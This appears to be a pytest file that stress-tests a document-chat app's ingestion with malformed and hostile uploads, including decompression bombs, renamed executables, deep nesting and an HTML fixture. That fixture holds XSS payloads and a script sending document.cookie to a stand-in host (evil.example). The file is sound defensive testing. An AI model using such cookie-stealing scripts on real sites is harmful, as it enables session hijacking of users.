"""Hostile and broken files through `DocChat.ingest`, as one upload.

Every file in ../shared/data/pdfs/broken and sample-files, plus generated cases (empty
files, garbage behind a PDF header, a truncated PDF, an executable renamed .pdf, UTF-16
and Latin-1 text, a 100 MB text file, a gigabyte decompression bomb, deep nesting, an
HTML page with scripts). Each must end `indexed` or `rejected` with a clear reason,
within bounded time and memory, and leave the other files of the upload untouched.
The figures are printed (run with -s to see them).
"""

from __future__ import annotations

import codecs
import resource
import time
from pathlib import Path

import pytest

from rag import DocChat, IngestResult, Settings
from rag.ingest import extract as extraction
from tests.fixtures.fakes import HashEmbedder
from tests.fixtures.paths import BROKEN, SAMPLES, need_shared
from tests.fixtures.pdfgen import flate_bomb, make_pdf, operator_bomb, text_ops

CONTROL_FIRST = b"# Control\n\nThe lighthouse keeper counts ships every evening.\n"
CONTROL_LAST = b"Penguins huddle together through the antarctic winter.\n"
UMLAUTS = "Grüße aus Köln: Äpfel, Öl und Übermut. Café naïve façade.\n" * 20
TIME_LIMIT = 3.0  # seconds, for the test of the time limit itself
FILE_BOUND = 60.0  # no file of the upload may take longer than this (extraction limit 30 s)


def clear_reason(r: IngestResult) -> bool:
    """A reason a person can read: names the file, one short message, no internals."""
    reason = r.reason
    return (
        bool(reason)
        and r.file in reason
        and len(reason) < 500
        and "Traceback" not in reason
        and " object at 0x" not in reason
    )


def generated_cases(tmp: Path) -> dict[str, tuple[bytes, str]]:
    """name -> (bytes, expected status or "any")."""
    tracemonkey = (SAMPLES / "tracemonkey.pdf").read_bytes()
    deep_md = (
        "> " * 20_000
        + "a quote nested twenty thousand levels deep\n"
        + "".join("  " * i + f"- item {i}\n" for i in range(3000))
        + "[" * 50_000
        + "link"
        + "](" * 50_000
        + "\n"
    )
    deep_html = b"<html><body>" + b"<div>" * 100_000 + b"deep text" + b"</div>" * 100_000
    scripts_html = (
        b"<html><head><title>Scripts</title><script>alert('head')</script></head><body>"
        b"<p>Visible paragraph about otters holding hands.</p>"
        b"<script>document.location='http://evil.example/?c='+document.cookie</script>"
        b"<img src=x onerror=\"alert('img')\"><a href=\"javascript:alert('link')\">click</a>"
        b"<style>p{color:red}</style><noscript>enable javascript</noscript></body></html>"
    )
    return {
        "empty.txt": (b"", "rejected"),
        "zero-bytes.pdf": (b"", "rejected"),
        "header-then-garbage.pdf": (b"%PDF-1.7\n" + bytes(range(256)) * 400, "rejected"),
        "truncated.pdf": (tracemonkey[: len(tracemonkey) // 2], "any"),
        "program.pdf": (Path("/bin/ls").read_bytes(), "rejected"),
        "program.txt": (Path("/bin/ls").read_bytes(), "rejected"),
        "utf16-bom.txt": (codecs.BOM_UTF16_LE + UMLAUTS.encode("utf-16-le"), "indexed"),
        "utf16-nobom.txt": (UMLAUTS.encode("utf-16-be"), "indexed"),
        "latin1.txt": (UMLAUTS.encode("latin-1"), "indexed"),
        "huge.txt": (b"All work and no play makes Jack a dull boy.\n" * 2_400_000, "rejected"),
        "bomb.pdf": (flate_bomb(1024), "rejected"),
        "nested.md": (deep_md.encode(), "indexed"),
        "deep.html": (deep_html, "any"),
        "scripts.html": (scripts_html, "indexed"),
        "garbage.docx": (b"PK\x03\x04" + bytes(range(256)) * 100, "rejected"),
        "white-text.pdf": (make_pdf([text_ops(["Only white text here."], gray=1.0)]), "any"),
    }


def test_hostile_upload(tmp_path: Path) -> None:
    need_shared()
    settings = Settings(
        data_dir=tmp_path / "data",
        min_score=0.0,
        extract_timeout=30.0,
        extract_memory_mb=1024.0,
    )
    app = DocChat.open(settings, embedder=HashEmbedder())
    generated = generated_cases(tmp_path)
    assert len(generated["huge.txt"][0]) > 100_000_000
    shared = sorted(p for folder in (BROKEN, SAMPLES) for p in folder.iterdir() if p.is_file())
    upload: list[tuple[str, bytes, str]] = [("control-first.md", CONTROL_FIRST, "indexed")]
    upload += [(f"{p.parent.name}-{p.name}", p.read_bytes(), "any") for p in shared]
    upload += [(name, data, want) for name, (data, want) in generated.items()]
    upload.append(("control-last.txt", CONTROL_LAST, "indexed"))

    results: list[tuple[IngestResult, float]] = []
    for name, data, want in upload:
        t0 = time.perf_counter()
        r = app.ingest(name, data)
        seconds = time.perf_counter() - t0
        results.append((r, seconds))
        assert r.file == name
        assert r.status in ("indexed", "rejected"), r
        if want != "any":
            assert r.status == want, r
        if r.status == "rejected":
            assert clear_reason(r), r
        assert seconds < FILE_BOUND, (name, seconds)

    by_name = {r.file: r for r, _ in results}
    assert "50 MB" in by_name["huge.txt"].reason  # the size limit, before any parsing
    assert "password" in by_name["sample-files-libreoffice-writer-password.pdf"].reason
    assert "not a PDF" in by_name["program.pdf"].reason
    assert by_name["sample-files-tracemonkey.pdf"].status == "indexed"

    # The good files are whole and searchable; the index holds exactly the indexed ones.
    indexed = [r for r, _ in results if r.status == "indexed"]
    docs = app.documents()
    assert sorted(d.doc_id for d in docs) == sorted({r.doc_id for r in indexed})
    assert app.services.store.count_chunks("default") == sum(d.chunks for d in docs)
    _, hits = app.search("lighthouse keeper counts ships")
    assert hits[0].chunk.file == "control-first.md"
    _, hits = app.search("penguins antarctic winter")
    assert hits[0].chunk.file == "control-last.txt"
    for name in ("utf16-bom.txt", "utf16-nobom.txt", "latin1.txt"):
        assert "Grüße aus Köln" in app.chunks(name)[0].text
    scripts = " ".join(c.text for c in app.chunks("scripts.html"))
    assert "otters holding hands" in scripts
    assert "alert" not in scripts and "evil.example" not in scripts

    # Memory: the app process stays small; each parser stayed under its cap.
    app_peak_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    worker_peak_mb = extraction.peak_memory_mb()
    assert worker_peak_mb < 1024 + 600  # the cap is on top of the idle worker's size
    assert app_peak_mb < 3000
    rejected = [r for r, _ in results if r.status == "rejected"]
    slowest, slowest_s = max(results, key=lambda x: x[1])
    print(
        f"\nhostile upload: {len(results)} files tried, {len(indexed)} indexed, "
        f"{len(rejected)} rejected cleanly, 0 crashes; slowest {slowest_s:.2f} s "
        f"({slowest.file}); worker peak {worker_peak_mb:.0f} MB, app peak {app_peak_mb:.0f} MB"
    )
    for r, seconds in results:
        print(f"  {r.status:9} {seconds:6.2f}s {r.file}: {r.reason[:110]}")


def test_time_limit_stops_a_pathological_pdf(tmp_path: Path) -> None:
    settings = Settings(data_dir=tmp_path / "data", min_score=0.0, extract_timeout=TIME_LIMIT)
    app = DocChat.open(settings, embedder=HashEmbedder())
    good = make_pdf([text_ops(["Walruses sunbathe on the rocks."])])
    assert app.ingest("before.pdf", good).status == "indexed"
    t0 = time.perf_counter()
    r = app.ingest("operators.pdf", operator_bomb())
    seconds = time.perf_counter() - t0
    assert r.status == "rejected" and clear_reason(r), r
    assert f"longer than {TIME_LIMIT:g} s" in r.reason
    assert seconds < TIME_LIMIT + 10
    after = make_pdf([text_ops(["Seals sleep in the water."])])
    assert app.ingest("after.pdf", after).status == "indexed"  # a new worker took over
    assert [d.name for d in app.documents()] == ["after.pdf", "before.pdf"]
    print(f"\ntime limit: operator bomb stopped after {seconds:.1f} s (limit {TIME_LIMIT:g} s)")


def test_memory_cap_stops_a_parser(tmp_path: Path) -> None:
    settings = Settings(data_dir=tmp_path / "data", min_score=0.0, extract_memory_mb=250.0)
    app = DocChat.open(settings, embedder=HashEmbedder())
    # Two million nested elements: lxml and BeautifulSoup need gigabytes for the tree.
    html = b"<html><body>" + b"<div><p>word " * 2_000_000 + b"</body></html>"
    r = app.ingest("nested.html", html)
    assert r.status == "rejected" and clear_reason(r), r
    assert "250 MB of memory" in r.reason
    assert app.ingest("fine.html", b"<p>Small pages still work.</p>").status == "indexed"


@pytest.mark.parametrize("kind", ["pdf", "html"])
def test_workers_are_capped_and_reused(kind: str) -> None:
    data = make_pdf([text_ops(["Reuse me."])]) if kind == "pdf" else b"<p>Reuse me, please.</p>"
    first = extraction.extract(f"a.{kind}", data, memory_mb=700.0)
    pids = extraction.worker_pids()
    second = extraction.extract(f"b.{kind}", data, memory_mb=700.0)
    assert first.texts == second.texts
    assert extraction.worker_pids() == pids  # the same idle worker served both
    limits = Path(f"/proc/{pids[-1]}/limits").read_text()
    line = next(ln for ln in limits.splitlines() if ln.startswith("Max address space"))
    soft = int(line.split()[3])
    assert soft < 700 * 2**20 + 2 * 2**30  # capped: idle size plus the 700 MB allowed
    # The worker imports the loaders, not the engine: `rag/__init__`'s openai (with its
    # pydantic_core library) would add 0.8 s to every worker start.
    assert "pydantic_core" not in Path(f"/proc/{pids[-1]}/maps").read_text()
